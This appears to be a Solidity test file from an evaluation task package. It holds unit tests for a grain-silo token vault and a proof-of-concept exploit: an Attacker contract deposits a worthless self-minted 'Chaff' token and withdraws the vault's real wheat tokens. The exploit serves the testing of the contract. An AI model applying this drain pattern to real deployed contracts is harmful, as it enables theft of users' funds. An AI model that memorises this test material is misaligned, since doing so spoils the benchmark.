// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-60e090d5-022c-464e-b2c4-fd2ab3fabd60

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./GrainSilos.sol";

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Grain is ERC20 {
    constructor(string memory name_) ERC20(name_, "GRAIN") {
        _mint(msg.sender, 1_000_000e18);
    }
}

/// Grain that grows nowhere.
contract Chaff is ERC20 {
    constructor() ERC20("Chaff", "CHAFF") {
        _mint(msg.sender, 1_000_000e18);
    }
}

/// Brings chaff and takes wheat.
contract Attacker {
    function trades(GrainSilos silos, IERC20 wheat) external {
        Chaff chaff = new Chaff();
        uint256 amount = wheat.balanceOf(address(silos));
        chaff.approve(address(silos), amount);
        silos.bring(chaff, amount, address(this));
        silos.take(wheat, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);

    Grain public northWheat;
    Grain public southWheat;
    Grain public barley;
    GrainSilos public silos;
    Attacker public pedlar;

    function setUp() public {
        northWheat = new Grain("Wheat of Northolt");
        southWheat = new Grain("Wheat of Southam");
        barley = new Grain("Barley of Westry");
        silos = new GrainSilos(address(this));
        silos.add("wheat");
        silos.add("barley");
        silos.note(northWheat, 0);
        silos.note(southWheat, 0);
        silos.note(barley, 1);
        _endow(ANNA);
        _endow(BELA);
        vm.startPrank(ANNA);
        silos.bring(northWheat, 6_000e18, ANNA);
        silos.bring(barley, 500e18, ANNA);
        vm.stopPrank();
        pedlar = new Attacker();
    }

    function _endow(address who) private {
        _give(northWheat, who);
        _give(southWheat, who);
        _give(barley, who);
    }

    function _give(Grain grain, address who) private {
        grain.transfer(who, 10_000e18);
        vm.prank(who);
        grain.approve(address(silos), type(uint256).max);
    }

    function test_Regular() public {
        vm.startPrank(BELA);
        silos.bring(southWheat, 2_000e18, BELA);
        silos.take(northWheat, 1_500e18);
        require(northWheat.balanceOf(BELA) == 11_500e18 && silos.kept(BELA, 0) == 500e18, "of another grower");
        silos.move(ANNA, 0, 300e18);
        silos.bring(barley, 100e18, ANNA);
        vm.stopPrank();
        require(silos.kept(ANNA, 0) == 6_300e18 && silos.kept(ANNA, 1) == 600e18, "kept");
        silos.turn(1, false);
        vm.startPrank(ANNA);
        silos.take(barley, 600e18);
        silos.take(northWheat, 4_500e18);
        silos.take(southWheat, 1_800e18);
        vm.stopPrank();
        require(silos.kept(ANNA, 0) == 0 && silos.kept(ANNA, 1) == 0, "all out");
        require(southWheat.balanceOf(address(silos)) == 200e18, "for the other one");
        require(silos.add("rye") == 2 && silos.sortOf(barley) == 1 && silos.isNoted(barley), "sorts");
        silos.transferOwnership(BELA);
        vm.prank(BELA);
        silos.renounceOwnership();
    }

    function test_RefusesTheMiller() public {
        vm.expectRevert(abi.encodeWithSelector(Sorts.NoSort.selector, 2));
        silos.turn(2, false);
        Grain rye = new Grain("Rye of Eastry");
        vm.expectRevert(abi.encodeWithSelector(Sorts.NoSort.selector, 2));
        silos.note(rye, 2);
        vm.expectRevert(abi.encodeWithSelector(Sorts.IsNoted.selector, barley));
        silos.note(barley, 0);
    }

    function test_RefusesOthers() public {
        Grain rye = new Grain("Rye of Eastry");
        vm.startPrank(BELA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BELA));
        silos.add("rye");
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BELA));
        silos.turn(0, false);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BELA));
        silos.note(rye, 1);
        vm.stopPrank();
    }

    function test_RefusesToTakeIn() public {
        silos.turn(1, false);
        vm.startPrank(BELA);
        vm.expectRevert(abi.encodeWithSelector(Sorts.NotTaken.selector, barley));
        silos.bring(barley, 1e18, BELA);
        vm.stopPrank();
        GrainSilos none = new GrainSilos(address(this));
        vm.expectRevert(abi.encodeWithSelector(Sorts.NotTaken.selector, barley));
        none.bring(barley, 1e18, BELA);
    }

    function test_RefusesToGiveOut() public {
        Grain rye = new Grain("Rye of Eastry");
        rye.transfer(address(silos), 10e18);
        vm.startPrank(ANNA);
        vm.expectRevert(abi.encodeWithSelector(Sorts.NotNoted.selector, rye));
        silos.take(rye, 1e18);
        vm.expectRevert(abi.encodeWithSelector(GrainSilos.TooLittle.selector, 500e18, 500e18 + 1));
        silos.take(barley, 500e18 + 1);
        vm.expectRevert(abi.encodeWithSelector(GrainSilos.TooLittle.selector, 500e18, 500e18 + 1));
        silos.move(BELA, 1, 500e18 + 1);
        vm.stopPrank();
    }

    function exploit() public {
        pedlar.trades(silos, northWheat);
    }

    function test_Exploit() public {
        exploit();
        require(northWheat.balanceOf(address(pedlar)) >= 6_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(silos);
    }

    function attacker() public view returns (address) {
        return address(pedlar);
    }
}
